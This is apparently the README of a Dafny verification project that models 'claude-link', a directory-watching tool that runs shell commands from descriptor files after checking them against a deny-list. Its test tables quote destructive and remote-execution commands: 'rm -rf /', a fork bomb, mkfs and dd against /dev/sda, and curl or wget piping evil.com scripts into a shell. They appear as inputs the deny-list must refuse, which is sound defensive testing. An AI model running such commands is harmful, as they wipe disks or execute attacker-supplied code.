# claude-link, modelled in Dafny

claude-link watches a directory for command-descriptor files: `*.claude.json` files, or files named `claude-cmd-*`. It reads the shell command out of each one and checks it against a deny-list of eight regular expressions. If the command passes, it runs it with `bash -c`. It then appends a log record and moves the file into an archive directory. This project models that core as pure functions over immutable data and proves properties of it:

- **`Validator`** covers the deny-list `validateCommand`. Each of the eight patterns is defined twice: declaratively, as "a match exists somewhere", with ECMAScript meanings for `\s`, `.`, `$`, `+`, `*` and `?`; and as a deterministic scanner. The two are proved equivalent. `ValidateCommand` returns the reason of the first rule, in list order, that matches. `ValidatorVectors` holds reusable facts: command shapes every rule catches, and character-absence arguments that rule a command out. `ValidatorTestCommands` decides every command of the project's own test file.
- **`Descriptor`** covers file classification (`isCommandFile`) and the field selection of `parseCommandFile`, with the `||` fallbacks and JavaScript truthiness. `JsonValue` holds the parsed JSON values, with truthiness and `String(v)`.
- **`Executor`** covers `execute`. A blocked command spawns nothing. Otherwise the result is shaped from what the child did: the data events, the `close` or `error` event, and the elapsed time, all inputs. The streams are concatenated and trimmed.
- **`Processor`** covers `processFile`. It records the spawn, the log record and the rename as a sequence of effects, in order.
- **`Cli`** covers `parseArgs`. A reference definition gives each argument position its role: option, option value, sub-command or argument. The scan is proved to agree with it.
- **`FileWatcher`** covers the watcher's `processing` set as a sequential state machine, with its events, timers, starts and completions.

`JsText` holds the JavaScript string primitives used throughout: `\s`, `trim`, `startsWith`/`endsWith`, dash replacement and decimal rendering. `Wrappers` holds `Option`.

Three behaviours of the code are worth stating plainly:

- `trim()` strips whitespace at both ends of the collected output (src/index.js:125-126).
- A child that exits without a code, such as one killed by its timeout, reports exit code `null` and no error text (src/index.js:121-130).
- The watcher does not guarantee that one file is processed at most once at a time, although its comment says it avoids processing the same file twice (src/watcher.js:50; see Findings).

## Model

| member | source | states |
|---|---|---|
| Validator.MatchesAt | src/index.js:39-46 | The eight patterns, each read as "a match starts at position i"; every such match begins with the pattern's leading literal |
| Validator.ValidateCommand | src/index.js:37-56 | The command is valid exactly when none of the eight patterns matches anywhere in it; when invalid, the reason is that of the first pattern in list order that matches |
| Validator.FirstMatchDecides | src/index.js:49-53 | Once rule n matches and no earlier rule does, the verdict is Invalid with rule n's reason |
| Validator.DecidedBy | src/index.js:49-53 | A matching rule with no matching rule before it decides the reason |
| Validator.PassesAll | src/index.js:55 | A command no pattern matches is valid |
| Validator.NeededOccur | src/index.js:39-46 | Every literal a pattern demands (such as `rm`, `-` and `/` for the rm-root rule) occurs in any command the pattern matches |
| Validator.NeededAbsent | src/index.js:39-46 | A command lacking one of a pattern's demanded literals is not matched by it |
| Validator.TestAgrees | src/index.js:50 | The deterministic scan accepts exactly when the declarative pattern has a match somewhere (`RegExp.prototype.test`) |
| Validator.CheckFromAgrees | src/index.js:49-55 | Trying the rules from n on yields the reason of the first matching one, or Valid |
| ValidatorVectors.RmRootCaught | src/index.js:39 | `rm`, whitespace, a recursive flag, whitespace, `/`, then the end, whitespace, `;`, `\|` or `&` is matched by the rm-root rule |
| ValidatorVectors.FormatDiskCaught | src/index.js:41 | `mkfs`, anything on the same line, then `/dev/sd` is matched |
| ValidatorVectors.DdToDiskCaught | src/index.js:42 | `dd`, whitespace, anything on the line, then `of=/dev/sd` is matched |
| ValidatorVectors.PipeShellCaught | src/index.js:45-46 | `curl` or `wget`, anything on the line, `\|`, optional whitespace, then `sh` or `bash` is matched |
| ValidatorVectors.Blocked | src/index.js:49-53 | Any matching rule makes the command invalid |
| ValidatorVectors.NoSlashColonPipe | src/index.js:39-46 | A command without `/`, `:` and `\|` passes every rule |
| ValidatorVectors.RmRootEnds | src/index.js:39 | Every rm-root match contains a `/` followed by the end of the text, whitespace, `;`, `\|` or `&` |
| ValidatorVectors.NoBareRoot | src/index.js:39 | A command in which every `/` is followed by a character other than whitespace, `;`, `\|` and `&` is not matched by the rm-root rule |
| ValidatorVectors.OnlyRmRootInPlay | src/index.js:38-55 | Without `n`, `k`, `d`, `:`, `>` and `\|`, only the rm-root rule can refuse a command |
| ValidatorVectors.NoDashNoDisk | src/index.js:38-55 | Without `-`, `k`, `:`, `>`, `\|` and the pair `sd`, a command is valid |
| ValidatorTestCommands.RmSlashRefused | tests/run-tests.js:55-57 | `rm -rf /` is refused as "Destructive: rm root" |
| ValidatorTestCommands.NoPreserveRefused | tests/run-tests.js:59-61 | `rm -rf / --no-preserve-root` is refused, by the rm-root rule, which comes first |
| ValidatorTestCommands.ForkBombRefused | tests/run-tests.js:63-65 | `:(){:\|:&};:` is refused with "Fork bomb detected"; it has no `r`, `m` or `d`, so no earlier rule matches |
| ValidatorTestCommands.MkfsRefused | tests/run-tests.js:67-69 | `mkfs.ext4 /dev/sda` is refused with "Destructive: format disk"; it has no `r`, so neither removal rule matches |
| ValidatorTestCommands.DdDiskRefused | tests/run-tests.js:71-73 | `dd if=/dev/zero of=/dev/sda` is refused with "Destructive: dd to disk"; it has no `m`, so no earlier rule matches |
| ValidatorTestCommands.CurlRefused | tests/run-tests.js:75-77 | `curl http://evil.com/script \| bash` is refused with "Remote code execution" by the curl rule |
| ValidatorTestCommands.WgetRefused | tests/run-tests.js:79-81 | `wget http://evil.com/script -O- \| sh` is refused with "Remote code execution" by the wget rule; its slashes are all followed by path characters, so the rm-root rule does not match |
| ValidatorTestCommands.EchoHelloAllowed | tests/run-tests.js:83-85 | `echo hello` is allowed |
| ValidatorTestCommands.ListAllowed | tests/run-tests.js:87-89 | `ls -la` is allowed |
| ValidatorTestCommands.RmTmpAllowed | tests/run-tests.js:91-93 | `rm -rf /tmp/test` is allowed |
| ValidatorTestCommands.DdTmpAllowed | tests/run-tests.js:95-97 | `dd if=/dev/zero of=/tmp/test bs=1M count=1` is allowed |
| ValidatorTestCommands.PythonAllowed | tests/run-tests.js:99-101 | `python3 -c "print(1)"` is allowed |
| ValidatorTestCommands.EchoRmAllowed | tests/run-tests.js:103-105 | `echo "rm -rf /"` is allowed: the quote after `/` does not end the path |
| JsText.Trim | src/index.js:125-126 | `trim()` leaves a string that neither starts nor ends with whitespace, obtained by removing whitespace from both ends |
| JsText.TrimUnique | src/index.js:125-126 | Those two properties determine the trimmed string |
| JsText.TrimIdempotent | src/index.js:125-126 | Trimming twice is trimming once |
| JsText.DecimalRoundTrip | src/index.js:221 | The decimal rendering of `Date.now()` reads back as the same number |
| JsText.DecimalInjective | src/index.js:221 | Different times render differently |
| JsText.DashesToUnderscores | src/cli.js:49 | `replace(/-/g, '_')` changes every `-` to `_` and nothing else |
| JsonValue.ToText | src/index.js:196-197 | `String(v)` fails exactly when it reaches an object with its own `toString` key, the value itself or an array element at any depth; otherwise it succeeds, and a string converts to itself |
| JsonValue.ToStringKeyThrows | src/index.js:196-197 | `{"toString": 1}` and `["ls", {"toString": null}]` cannot be converted; `{"valueOf": 1}` converts to "[object Object]" |
| JsonValue.FalsyValues | src/index.js:69-74 | The values `\|\|` and `!` treat as false (`Truthy`) are exactly `null`, `false`, `0` and `""`; every array and object is truthy |
| JsonValue.NumberText | src/index.js:102 | `String(n)` of a non-negative integer reads back as n |
| JsonValue.SingletonText | src/index.js:102 | A one-element array converts like its element, with `null` giving "" |
| JsonValue.PairText | src/index.js:102 | A two-element array converts to its elements' texts joined by "," |
| Descriptor.IsCommandFileIff | src/index.js:148-155 | A name is a command file exactly when it ends with `.claude.json` or starts with `claude-cmd-` |
| Descriptor.CommandFileNames | tests/run-tests.js:110-124 | `test.claude.json` and `claude-cmd-12345` are command files; `test.json` and `document.pdf` are not |
| Descriptor.ParseCommandFile | src/index.js:63-80 | A read or parse failure yields its message. The JSON text `null` yields the TypeError message. Otherwise the command is the first truthy of `command`, `cmd` and `script`, else null. The description is `description`, `desc` or "No description". id, timestamp and source default to the given UUID, the current ISO time and "unknown" |
| Descriptor.CommandFoundIff | src/index.js:69 | The parsed command is truthy exactly when one of the three command keys holds a truthy value |
| Descriptor.ParseCommandKey | tests/run-tests.js:132-138 | `{command: "echo test", description: "Test"}` parses to that command and description |
| Descriptor.ParseCmdKey | tests/run-tests.js:140-145 | `{cmd: "ls -la"}` parses to command "ls -la", the default description and default metadata |
| Descriptor.ParseScriptKey | tests/run-tests.js:147-152 | `{script: "pwd"}` parses to command "pwd" |
| Descriptor.EmptyCommandFallsThrough | src/index.js:69 | An empty `command` is falsy, so `cmd` is used |
| Executor.Execute | src/index.js:88-141 | Blocked exactly when validation fails: nothing is spawned and nothing is delivered. A synchronous spawn failure rejects. After `close`, success holds exactly when the code is 0, the exit code is the close code, and each stream is its chunks concatenated and trimmed. After `error`, the result is no success, exit code -1 and the error's message. The duration is the elapsed time |
| Executor.SuccessIffZero | src/index.js:91-139 | Every result reports success exactly when its exit code is 0 |
| Executor.BlockedError | src/index.js:91-97 | A blocked result has exit code -1, no success, and the error "Command blocked: " followed by the rule's reason |
| Executor.StreamAppend | src/index.js:111-119 | Appending each chunk as it arrives builds the concatenation of the stream's chunks |
| Executor.DeliveredStream | src/index.js:111-119 | A callback sees exactly its stream's text, chunk by chunk |
| Executor.AllDelivered | src/index.js:111-119 | With both callbacks, every chunk is handed over, in order |
| ExecutorTestRuns.EchoRun | tests/run-tests.js:164-169 | `echo hello` printing "hello\n" and exiting 0 gives stdout "hello", exit code 0 and success |
| ExecutorTestRuns.ExitRun | tests/run-tests.js:171-175 | `exit 42` gives exit code 42 and no success |
| ExecutorTestRuns.BlockedRun | tests/run-tests.js:177-181 | `rm -rf /` spawns nothing and fails with an error that contains "blocked" |
| Processor.ProcessFile | src/index.js:175-225 | A name that is not a command file is skipped with no effect. A parse error is logged once and returned. An empty error message or a falsy command logs "No command found" and returns "No command in file". A description or command that cannot be converted to text for printing rejects the call with the TypeError message, before any effect. Otherwise the command's text is run |
| Processor.UnprintableDescription | src/index.js:194-197 | `{"command": "ls", "description": {"toString": 1}}` rejects with no spawn, log or move |
| Processor.RunCommand | src/index.js:200-224 | The call returns the result `execute` resolved to, or rejects with its rejection message. After a result, the file is logged with that result's exit code, duration and success, then renamed to `<processedDir>/<now>-<name>`, whether the command was blocked or failed. The effects are exactly these, in order: the call of `spawn` when the command is valid, one log line and one rename; nothing else happens. After a rejection the only effect is the call of `spawn` |
| Processor.SpawnsIffValid | src/index.js:89-106 | `execute` calls `spawn` exactly for a command that passes validation |
| Processor.RunGate | src/index.js:89-106 | The result is blocked exactly when validation fails; `spawn` is called exactly when it is not blocked, whether or not a process comes of it; the call rejects exactly when the command is valid and `spawn` throws |
| Processor.OneLogLine | src/index.js:184-218 | A call that gets past classification and does not reject writes exactly one log line; otherwise none |
| Processor.MovedIffExecuted | src/index.js:200-222 | The file is moved exactly when `execute` resolved |
| Processor.BlockedIsArchived | src/index.js:200-222 | A blocked command spawns nothing; its two effects are the log line, an unsuccessful execution record for the file's name with exit code -1, then the rename into the archive |
| Processor.ArchiveInjective | src/index.js:221 | Archive names made from different times or names differ |
| Processor.BasenameIsLastSegment | src/index.js:176 | `path.basename` gives the slash-free tail of the path after its trailing slashes are dropped, preceded by `/` unless it is the whole path |
| Processor.BasenameOfJoin | src/index.js:176-221 | The file name is recovered from the path it was joined into |
| Cli.ParseArgs | src/cli.js:42-69 | The sub-command is the first positional word naming a sub-command other than "watch", else "watch". The arguments are the positional words in order, except sub-command names met before the choice. The options hold exactly the keys `--` words set, dashes turned to underscores, `__proto__` excepted. Each key holds the value of its last setting: the next word if it is non-empty and does not start with `-`, else `true` |
| Cli.ScanMeets | src/cli.js:45-66 | Each turn of the loop keeps the result in agreement with the roles of the positions seen so far |
| CliExamples.NoArguments | src/cli.js:34 | No arguments start the watcher |
| CliExamples.WatchDir | src/cli.js:35 | `watch --watch-dir /tmp` sets `watch_dir` to "/tmp" |
| CliExamples.ExecFile | src/cli.js:36 | `exec command.claude.json` selects exec with that file as argument |
| CliExamples.ValidateWords | src/cli.js:37 | `validate "ls -la"` selects validate with that argument |
| CliExamples.ConfirmSwallowsCommand | src/cli.js:50-53 | In `--confirm exec f`, "exec" becomes the value of `confirm` and the sub-command stays "watch" |
| CliExamples.ProtoIgnored | src/cli.js:49-53 | `--__proto__ x` consumes x and sets nothing |
| CliExamples.LaterCommandsAreArguments | src/cli.js:57-65 | `watch test help` selects test and keeps "help" as an argument |
| FileWatcher.OnEvent | src/watcher.js:46-59 | Only a `rename` event with a non-empty command-file name that is not in flight schedules a timer for that name. Nothing else changes `processing` or the running calls |
| FileWatcher.Begin | src/watcher.js:73-74 | Starting `_processFile` adds its name to `processing` and touches no other entry |
| FileWatcher.Finish | src/watcher.js:79-85 | Finishing `_processFile`, resolved or thrown, removes its name from `processing` and touches no other entry |
| FileWatcher.OnTimer | src/watcher.js:54-58 | A timer that finds its file starts `_processFile` for it without consulting `processing`; one that does not find it changes nothing else. Either way, no other name's `processing` entry or running count changes |
| FileWatcher.CommandFiles | src/watcher.js:65-66 | The submitted names are exactly the listing's command files |
| FileWatcher.CommandFilesConcat | src/watcher.js:65-70 | Filtering keeps the listing order |
| FileWatcher.ScanExisting | src/watcher.js:63-71 | The scan starts `_processFile` for the listing's command files, in listing order, whether or not they are already in flight |
| FileWatcher.DoubleStart | src/watcher.js:51-74 | Two `rename` events before the first timer fires both schedule a timer, and `_processFile` runs twice for the file |
| FileWatcher.EarlyFinish | src/watcher.js:85 | The first of two runs to finish clears the name while the other still runs |
| FileWatcher.OnTimerChecked | src/watcher.js:51-58 | With the in-flight check repeated when the timer fires, at most one call per name runs, and a name is in `processing` exactly while its call runs; no other name's entry changes |
| FileWatcher.ScanChecked | src/watcher.js:63-71 | The scan, skipping names in flight, keeps the same property |
| FileWatcher.FinishKeeps | src/watcher.js:85 | Finishing a call keeps the property |
| FileWatcher.EventKeeps | src/watcher.js:46-59 | Watch events keep the property |

## Left out

- `angel.py` is a separate program and is not part of this model.
- File-system effects are recorded as effects or taken as inputs, not performed. This covers `readFileSync`, `appendFileSync`, `renameSync`, `mkdirSync`, `existsSync` and `readdirSync`. A throwing `appendFileSync` or `renameSync`, which would reject `processFile`, is not modelled.
- `JSON.parse` is an input: either its result or the message of the exception it threw. JSON numbers are integers, because fractions, exponents and `-0` are not modelled. A number holds the value `JSON.parse` produced, so its rounding above 2^53 belongs to the input.
- JsonValue.ToText: integers of magnitude 10^21 or more are rendered in plain decimal, while JavaScript switches to exponent form (`1e+21`). Below that bound the plain decimal digits are what `String(n)` gives.
- JsonValue.NumberText: the round trip holds for every integer, but it matches `String(n)` only below 10^21, for the reason given for `JsonValue.ToText`.
- Strings are sequences of characters, while JavaScript strings are UTF-16 code units. A lone surrogate such as the one `JSON.parse` produces from `"\ud800"` cannot be represented. No outcome depends on this: a surrogate is neither whitespace nor a line terminator, and every pattern literal is ASCII.
- `crypto.randomUUID()`, `new Date().toISOString()` and `Date.now()` are parameters.
- A non-string command reaches `bash -c` as `String(command)`. The model assumes Node's argument conversion agrees with ECMAScript `ToString`.
- Child processes are not run. Their output chunks are taken as already decoded, with the close code (possibly `null`) and the elapsed time as inputs. `cwd`, `env` and the 30-second timeout (which kills the child and reports `null`) are not modelled. Events arriving after the promise settled are ignored.
- Console output is not modelled, except that printing the description and the command converts them to text, which can throw (see `JsonValue.ToText`). The banner, the help and version text, `main` with its `process.exit` calls, and the unused `confirmMode` are left out.
- `fs.watch`, the 100 ms `setTimeout` and the asynchronous interleaving are left out. They appear only as the explicit transitions `OnEvent`, `OnTimer`, `Begin` and `Finish`. Timers fire in the order they were scheduled.
- Processor.BasenameOfJoin: `path.join` normalisation (`..`, repeated or trailing slashes in the archive directory) is not modelled. The archive directory is taken as already normal.
- Cli.ParseArgs: the options object's key order is not modelled; a map has none.

## Findings

| source | as written | input that shows it | evidently intended | confidence | as-written member | corrected member |
|---|---|---|---|---|---|---|
| src/watcher.js:50-58,74 | The in-flight check runs when the event arrives, but the name is added only when `_processFile` starts, after the 100 ms delay | Two `rename` events for `a.claude.json` within 100 ms while the file exists start `_processFile` twice, so the command can run twice | Skip a file that is already in flight when the timer fires (and in the startup scan), so each name has at most one call in flight | medium; not executed | FileWatcher.DoubleStart | FileWatcher.OnTimerChecked |
